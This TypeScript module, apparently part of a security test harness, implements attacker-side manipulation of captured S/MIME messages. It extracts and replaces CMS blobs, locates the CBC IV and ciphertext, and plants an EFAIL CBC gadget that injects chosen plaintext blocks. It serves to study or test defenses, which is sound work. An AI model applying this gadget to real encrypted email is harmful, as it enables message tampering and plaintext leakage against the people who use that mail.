/**
 * What an attacker does to captured S/MIME: take the CMS blob out of a message, change it (PKI.js for
 * SignedData, byte surgery on the ciphertext for CBC gadgets), and put it back.
 */
import * as asn1js from 'asn1js';
import * as pkijs from 'pkijs';
import { fromBase64, fromUtf8, toArrayBuffer, toBase64Lines, utf8 } from '../../../shared/bytes';
import { parseMessage } from '../../../shared/mime';
import type { MimeEntity } from '../../../shared/mime';

function pkcs7Entity(e: MimeEntity): MimeEntity | null {
  if (e.contentType.type === 'application' && /pkcs7-(mime|signature)$/.test(e.contentType.subtype)) return e;
  for (const c of e.children) {
    const found = pkcs7Entity(c);
    if (found) return found;
  }
  return null;
}

/** The first CMS blob of a message (the pkcs7-mime body or the detached signature part). */
export function cmsOf(msg: Uint8Array): { der: Uint8Array; base64: string } {
  const e = pkcs7Entity(parseMessage(msg));
  if (!e) throw new Error('no CMS part in the message');
  const base64 = fromUtf8(e.body).trim();
  return { der: fromBase64(base64), base64 };
}

/** The same message with its first CMS blob replaced. */
export function withCms(msg: Uint8Array, der: Uint8Array): Uint8Array {
  const { base64 } = cmsOf(msg);
  return utf8(fromUtf8(msg).replace(base64, toBase64Lines(der).trimEnd()));
}

export function signedDataOf(der: Uint8Array): pkijs.SignedData {
  const ci = pkijs.ContentInfo.fromBER(toArrayBuffer(der));
  return new pkijs.SignedData({ schema: ci.content });
}

export function signedDataDer(sd: pkijs.SignedData): Uint8Array {
  const ci = new pkijs.ContentInfo({
    contentType: pkijs.ContentInfo.SIGNED_DATA,
    content: sd.toSchema(true),
  });
  return new Uint8Array(ci.toSchema().toBER(false));
}

/**
 * Where the CBC IV and ciphertext sit inside an EnvelopedData ContentInfo, as offsets into `der`
 * (RFC 5652 §6.1: encryptedContentInfo is the last field before the optional unprotectedAttrs).
 */
export function cbcLocation(der: Uint8Array): { iv: number; ciphertext: number; length: number } {
  const copy = new Uint8Array(der);
  const parsed = asn1js.fromBER(copy);
  if (parsed.offset === -1) throw new Error('not DER');
  const seq = (n: asn1js.AsnType): asn1js.AsnType[] => (n as asn1js.Sequence).valueBlock.value;
  const explicit = seq(parsed.result)[1]!;
  const env = seq(explicit)[0]!;
  const eci = seq(env).find(
    (n, i) => i > 0 && n instanceof asn1js.Sequence && seq(n)[0] instanceof asn1js.ObjectIdentifier,
  );
  if (!eci) throw new Error('no encryptedContentInfo');
  const [, alg, content] = seq(eci);
  const iv = seq(alg!)[1] as asn1js.OctetString;
  const ivView = iv.valueBlock.valueHexView;
  const ctNode = content as asn1js.Primitive;
  if (ctNode.idBlock.isConstructed) throw new Error('constructed encryptedContent: not handled');
  const ctView = ctNode.valueBlock.valueHexView;
  const base = copy.byteOffset;
  return { iv: ivView.byteOffset - base, ciphertext: ctView.byteOffset - base, length: ctView.length };
}

/**
 * EFAIL's CBC gadget (Poddebniak et al., 2018): with a block of known plaintext P_i and the block
 * before it (C_{i-1}, or the IV for i = 0), the pair (C_{i-1} ^ P_i ^ X, C_i) decrypts to garbage and
 * then to the chosen block X. Written over two blocks at `at`, so the length stays the same.
 */
export function plantCbcGadget(
  der: Uint8Array,
  knownFirstBlock: Uint8Array,
  chosen: string,
  at: number,
): Uint8Array {
  const x = utf8(chosen);
  if (x.length !== 16 || knownFirstBlock.length !== 16) throw new Error('blocks are 16 bytes');
  const out = new Uint8Array(der);
  const loc = cbcLocation(der);
  const iv = der.subarray(loc.iv, loc.iv + 16);
  const c0 = der.subarray(loc.ciphertext, loc.ciphertext + 16);
  const g = new Uint8Array(16);
  for (let i = 0; i < 16; i++) g[i] = iv[i]! ^ knownFirstBlock[i]! ^ x[i]!;
  const o = loc.ciphertext + at * 16;
  if (at < 1 || o + 32 > loc.ciphertext + loc.length - 16) throw new Error('gadget out of range');
  out.set(g, o);
  out.set(new Uint8Array(c0), o + 16);
  return out;
}
